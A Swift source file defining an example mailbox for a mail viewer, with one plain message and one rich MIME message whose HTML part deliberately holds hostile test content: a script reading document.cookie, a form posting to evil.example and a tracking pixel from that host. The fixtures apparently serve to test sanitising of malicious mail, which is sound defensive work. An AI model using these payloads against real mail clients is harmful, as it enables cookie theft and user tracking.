import Message
import Web

/// A mailbox with a plain message, a rich one with a picture, and one that means harm.
struct ExampleMailbox: MailboxView {
    static let rich = """
        DKIM-Signature: v=1; a=rsa-sha256; d=shop.example.org; s=c1-k3v9q2m7t5x1b8n4; bh=x; b=y\r
        DKIM-Signature: v=1; a=rsa-sha256; d=gateway.example; s=c1-platform; bh=x; b=y\r
        From: =?utf-8?q?Caf=C3=A9_Corner?= <orders@shop.example.org>\r
        To: reader@mail.example.net\r
        Subject: =?utf-8?q?Your_order_is_on_its_way_=E2=9C=93?=\r
        Date: Thu, 01 Jan 2026 00:00:00 +0000\r
        MIME-Version: 1.0\r
        Content-Type: multipart/related; boundary=r\r
        \r
        --r\r
        Content-Type: multipart/alternative; boundary=a\r
        \r
        --a\r
        Content-Type: text/plain; charset=utf-8\r
        Content-Transfer-Encoding: quoted-printable\r
        \r
        Your caf=C3=A9 order is on its way.\r
        --a\r
        Content-Type: text/html; charset=utf-8\r
        \r
        <style>body{font-family:sans-serif;padding:2rem}</style><h1>On its way</h1>\r
        <p>Your order left our shop. <img src="cid:logo@shop" width=16 height=16></p>\r
        <script>alert(document.cookie)</script><form action="https://evil.example"><input name=x></form>\r
        <img src="https://evil.example/pixel.gif">\r
        --a--\r
        --r\r
        Content-Type: image/gif\r
        Content-ID: <logo@shop>\r
        Content-Disposition: inline; filename=logo.gif\r
        Content-Transfer-Encoding: base64\r
        \r
        R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==\r
        --r--\r

        """
    static let plain = """
        From: \(ExampleLog.evil) <a@example.org>\r
        To: b@example.net\r
        Subject: \(ExampleLog.evil)\r
        \r
        \(ExampleLog.evil)\r

        """

    let now: Timestamp
    private var all: [(id: String, text: String)] { [("1.rich", Self.rich), ("2.plain:2,S", Self.plain)] }

    func entries(limit: Int) async throws -> [MailboxEntry] {
        all.prefix(limit).map { id, text in
            let bytes = Array(text.utf8)
            var scanner = MessageScanner()
            _ = scanner.feed(bytes[...])
            return MailboxEntry(
                id: id, received: now - .minutes(3), size: bytes.count, header: scanner.finish().header.serialised)
        }
    }

    func message(_ id: String) async throws -> [UInt8]? {
        all.first { $0.id == id }.map { Array($0.text.utf8) }
    }
}
